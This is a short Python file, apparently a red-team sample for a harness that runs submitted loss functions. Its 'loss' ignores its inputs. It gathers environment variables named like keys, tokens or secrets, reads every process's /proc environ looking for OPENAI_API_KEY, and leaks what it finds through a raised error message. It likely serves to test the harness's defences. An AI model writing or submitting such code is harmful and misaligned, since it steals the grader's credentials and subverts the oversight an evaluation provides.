"""Threat: read secrets from the environment (the judge's API key) and leak them in the error text."""

import os


def loss(policy_chosen_logps, policy_rejected_logps):
    found = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k or "SECRET" in k}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    env = f.read()
            except OSError:
                continue
            if b"OPENAI_API_KEY" in env:
                found[f"/proc/{pid}"] = env.decode(errors="replace")
    raise RuntimeError(f"LEAK {found}" if found else "no secret found in the environment")
